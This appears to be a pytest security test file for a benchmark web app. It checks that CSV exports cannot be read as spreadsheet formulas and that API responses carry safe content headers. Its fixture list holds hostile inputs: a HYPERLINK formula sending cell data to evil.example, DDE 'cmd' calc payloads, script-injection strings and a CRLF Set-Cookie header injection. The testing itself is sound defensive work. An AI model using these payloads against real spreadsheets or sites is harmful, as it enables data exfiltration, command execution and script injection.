"""Names, errors, prompts and labels that are formulas or pages: files and answers have them as text."""

import csv
import io

import pytest

from tests.studio.benchmarks.conftest import Studio
from tests.studio.benchmarks.made import failed, record
from tests.studio.providers.conftest import Lists, deployment

TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"See")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "plain;=1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    '<script>alert("1")</script>',
    "</script><img src=x onerror=alert(1)>",
    "name\r\nSet-Cookie: a=b",
]
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
INVISIBLE = "\u200b\ufeff \x00"


@pytest.fixture
def run_id(own: Studio, lists: Lists) -> str:
    """Return a run that has ended whose every text is hostile: an answer and a failure of each model."""
    lists.tell("/model/info", {"data": [deployment(name) for name in TEXTS]})
    made = own.start(*TEXTS, prompt=TEXTS[0], label=TEXTS[1], warmup=False)
    for at, text in enumerate(TEXTS):
        told = {"error": text, "finish_reason": text, "response_id": text}
        own.keep(made, [record(at, 0, 1, text, **told), failed(at, 0, 2, text, model=text, error=text)])
    own.end(made, "failed", TEXTS[0])
    return made


def assert_harmless(text: str) -> None:
    """Fail where a spreadsheet, whatever it separates by, would find a formula."""
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator):
            for cell in row:
                for line in cell.splitlines() or [""]:
                    seen = line.strip(INVISIBLE + '"')
                    assert not seen.startswith(STARTS) or is_number(seen), (separator, cell)


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_cell_of_a_file_is_a_formula_and_every_text_is_there(own: Studio, run_id: str) -> None:
    for path in (f"/api/export/run/{run_id}", "/api/export/history"):
        answer = own.client.get(path, headers=own.headers)
        assert_harmless(answer.text)
        rows = list(csv.DictReader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")))
        assert len(rows) >= len(TEXTS)
        assert {row["model_id"].replace("'", "") for row in rows} == {text.replace("'", "") for text in TEXTS}
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-disposition"].startswith('attachment; filename="')
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_what_is_a_page_is_sent_as_json_which_no_browser_takes_for_one(own: Studio, run_id: str) -> None:
    page = f"/api/history/{run_id}"
    files = (f"/api/export/run/{run_id}?format=json", "/api/export/history?format=json")
    for path in (
        page,
        f"{page}/records",
        "/api/history",
        "/api/jobs",
        f"/api/jobs/{run_id}",
        "/api/config",
        *files,
    ):
        answer = own.client.get(path, headers=own.headers)
        assert answer.headers["content-type"] == "application/json", path
        assert answer.headers["x-content-type-options"] == "nosniff", path
        assert "default-src 'none'" in answer.headers["content-security-policy"], path
        assert "set-cookie" not in answer.headers, path
    run = own.get(page)
    assert (run["label"], run["prompt"], run["error"]) == (TEXTS[1], TEXTS[0], TEXTS[0])
    assert {row["model_id"] for row in run["results"]} == set(TEXTS)
    assert {row["error"] for row in run["results"]} == set(TEXTS)


def test_an_error_that_quotes_what_was_sent_is_json_as_well(own: Studio) -> None:
    for path in ("/api/jobs?status=<script>alert(1)</script>", "/api/history?state=<script>", "/api/<script>"):
        answer = own.client.get(path, headers=own.headers)
        assert answer.status_code in {404, 422}, path
        assert answer.headers["content-type"] == "application/json", path
        assert answer.headers["x-content-type-options"] == "nosniff", path
